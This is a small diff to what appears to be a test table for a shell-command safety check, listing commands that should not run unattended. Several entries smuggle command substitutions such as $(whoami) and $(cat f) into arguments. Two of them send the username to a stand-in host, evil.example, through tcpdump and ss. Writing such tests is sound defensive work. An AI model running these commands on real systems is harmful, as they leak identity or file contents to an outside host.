@@ -225,7 +225,7 @@ test.each([
 /** Clients whose words may stand for a name, an address or a question; none of these is fit to run with nobody there. */
 test.each([
   "kubectl get pods --as=$(whoami)",
-  "terraform plan -var x=$(cat f)",
+  "terraform show x=$(cat f)",
   "rabbitmqctl list_queues -p $(cat f)",
   "tcpdump -c 1 host $(whoami).evil.example",
   "ss dst $(whoami).evil.example",
